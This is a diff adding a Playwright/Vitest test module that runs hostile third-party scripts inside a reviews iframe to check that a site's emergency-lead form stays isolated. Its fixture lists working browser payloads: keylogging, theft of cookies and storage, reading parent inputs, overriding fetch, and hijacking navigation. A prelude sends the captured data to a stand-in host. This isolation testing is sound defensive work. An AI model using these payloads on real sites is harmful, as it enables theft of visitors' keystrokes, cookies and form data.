@@ -1,0 +1,139 @@
+/** Vendors that try everything against the page around them. */
+import type { Page } from 'playwright-core';
+import { expect } from 'vitest';
+import type { OpenPage } from './browser.ts';
+import { atAPersonsPace, awake, formOf, type Product, submit } from './product.ts';
+import { type Asked, mayAsk, scrollToReviews, serveVendor, theFrame } from './reviews-vendor.ts';
+
+/** Each begins by saying that it runs; `report` sends what it has got hold of to its own host, which it may. */
+export const hostile = {
+  'loops without end': `setTimeout(() => { for (;;); }, 50);`,
+  'covers the whole page': `
+    const cover = document.createElement('div');
+    cover.style = 'position:fixed; inset:-5000px; z-index:2147483647; background:red; height:100000px; width:100000px';
+    document.body.append(cover);
+    document.documentElement.style = 'height:100000px; width:100000px';`,
+  'leads the page elsewhere': `
+    every(() => { top.location = 'https://api.vendor.example/elsewhere'; });
+    every(() => { open('https://api.vendor.example/elsewhere', '_top'); });
+    every(() => { Object.assign(document.createElement('a'), { href: 'https://api.vendor.example/', target: '_parent' }).click(); });
+    every(() => { parent.location.replace('javascript:fetch("https://api.vendor.example/")'); });`,
+  'goes back in the history': `every(() => history.back()); every(() => history.go(-1));`,
+  'leads its own frame elsewhere': `
+    setTimeout(() => { location = 'https://api.vendor.example/elsewhere'; }, 300);
+    setTimeout(() => { location = '/'; }, 600);`,
+  'removes the body': `document.body.remove(); document.documentElement.remove();`,
+  'reads the page around it': `
+    every(() => report(parent.document.body.innerText));
+    every(() => report([...parent.document.querySelectorAll('input')].map(({ value }) => value)));
+    every(() => report(parent['form-emergency'].innerHTML));
+    every(() => report(parent.location.href));`,
+  'floods the page with messages': `setInterval(() => { for (let i = 0; i < 2000; i++) parent.postMessage(i, '*'); }, 1);`,
+  'opens windows and asks questions': `
+    every(() => open('https://api.vendor.example/')); every(() => alert('!')); every(() => confirm('?'));
+    every(() => prompt('Your phone?') && report('answered')); every(() => print());
+    addEventListener('beforeunload', (event) => event.preventDefault());`,
+  'listens to the keys': `
+    for (const type of ['keydown', 'keypress', 'keyup', 'input', 'beforeinput', 'paste'])
+      for (const one of [window, parent, top, document])
+        try { one.addEventListener(type, (event) => report(event.key ?? event.data), true); } catch {}`,
+  'takes the focus': `
+    const field = document.createElement('textarea');
+    field.autofocus = true;
+    document.body.append(field);
+    addEventListener('keydown', ({ key }) => report(key), true);
+    field.addEventListener('input', () => report(field.value));
+    every(() => { window.focus(); field.focus(); });`,
+  'scrolls the page to itself': `every(() => document.body.scrollIntoView({ block: 'center' }));`,
+  'reads what the site has kept': `
+    every(() => report(document.cookie)); every(() => report(JSON.stringify(localStorage)));
+    every(() => report(JSON.stringify(sessionStorage)));
+    every(() => indexedDB.open('leads').onerror); every(() => caches.open('leads').catch(() => {}));
+    every(() => navigator.serviceWorker.register('/worker.js').catch(() => {}));`,
+  'posts forms to its host': `
+    const form = document.createElement('form');
+    Object.assign(form, { method: 'post', action: 'https://api.vendor.example/form', target: '_top' });
+    document.body.append(form);
+    every(() => form.submit()); every(() => form.requestSubmit());
+    every(() => Object.assign(form, { action: 'https://api.vendor.example/form', target: '' }));
+    every(() => Object.assign(form, { action: '/api/lead', target: '' }));`,
+  'takes the names of our things': `
+    for (const id of ['form-emergency', 'quote', 'reviews', 'fetch', 'document', 'location', 'parent'])
+      document.body.append(Object.assign(document.createElement('img'), { id, name: id }));
+    window.name = 'form-emergency'; every(() => { history.pushState({}, '', '#form-emergency'); });`,
+  'fills its memory': `window.kept = []; for (let i = 0; i < 20; i++) kept.push(new Uint8Array(1e7).fill(i));`,
+  // Last, or the others would be spied upon.
+  'overrides what a form sends with': `
+    const spy = (...what) => { report(JSON.stringify(what)); return new Promise(() => {}); };
+    for (const one of [window, parent, top]) every(() => { one.fetch = spy; one.XMLHttpRequest = spy; one.navigator.sendBeacon = spy; });
+    Object.prototype.toJSON = function () { report(Object.values(this)); return {}; };
+    HTMLFormElement.prototype.submit = spy; EventTarget.prototype.addEventListener = spy;`,
+};
+
+export type Deed = keyof typeof hostile;
+
+const prelude = `
+  const send = window.fetch.bind(window);
+  const report = (text) => send('https://api.vendor.example/report', { method: 'POST', mode: 'no-cors', body: String(text) }).catch(() => {});
+  const every = (act) => setInterval(() => { try { act(); } catch {} }, 10);
+  report('it runs');`;
+
+const lead = { Name: 'Zyxwvut', Phone: '314-555-0177' };
+
+/** What was reported that may be a letter, a digit or more of what the visitor typed. */
+const keysIn = (asked: Asked) =>
+  asked
+    .map((line) => line.split('/report ')[1] ?? '')
+    .filter(
+      (text) => text !== 'it runs' && [...Object.values(lead).join('')].some((key) => text.includes(key)),
+    );
+
+/** By hand, key by key, as a visitor would. @param beforeKeys comes between the press on a field and the first key */
+async function sendLead(page: Page, beforeKeys: () => Promise<void>): Promise<void> {
+  const form = formOf(page, 'emergency');
+  for (let turn = 0; turn < 12; turn += 1) await page.mouse.wheel(0, -200);
+  await awake(form);
+  for (const [label, value] of Object.entries(lead)) {
+    await form.getByLabel(label).click();
+    await beforeKeys();
+    await page.keyboard.type(value, { delay: 20 });
+    expect(await form.getByLabel(label).inputValue()).toBe(value);
+  }
+  await form.getByLabel('Service').selectOption({ label: 'Other Emergency' });
+  await atAPersonsPace(page);
+  await submit(form);
+}
+
+/** With these vendors, all in one frame, a visitor sends a request, and none of them reads a letter of it. */
+export async function expectSafeFrom(
+  deeds: readonly Deed[],
+  { product, open }: { product: Product; open: OpenPage },
+): Promise<void> {
+  const asked: Asked = [];
+  const scripts = deeds.map((deed) => `{ ${hostile[deed]} }`);
+  const page = await open('/', {
+    mayAsk,
+    reducedMotion: 'reduce',
+    expectErrors: /.*/,
+    before: async (page) => {
+      await serveVendor(page, [prelude, ...scripts].join('\n'), asked);
+      await page.goto(`${product.origin()}/about`);
+    },
+  });
+  const leftFor: string[] = [];
+  page.on('framenavigated', (frame) => frame === page.mainFrame() && leftFor.push(frame.url()));
+  await scrollToReviews(page);
+  await expect.poll(() => asked.join()).toContain('it runs');
+  await sendLead(page, async () => {
+    // It has the focus for some milliseconds, until it is removed for that. No hand is on a key so soon after a press; a program is.
+    if (deeds.includes('takes the focus')) await theFrame(page).waitFor({ state: 'detached' });
+  });
+  expect(await product.rows()).toMatchObject([{ name: lead.Name, phone: '+13145550177' }]);
+  expect(leftFor).toEqual([]);
+  expect(page.context().pages()).toHaveLength(1);
+  expect(keysIn(asked)).toEqual([]);
+  const heights = await theFrame(page).evaluateAll((frames) =>
+    frames.map(({ clientHeight }) => clientHeight),
+  );
+  expect(Math.max(0, ...heights)).toBeLessThanOrEqual(4000);
+}
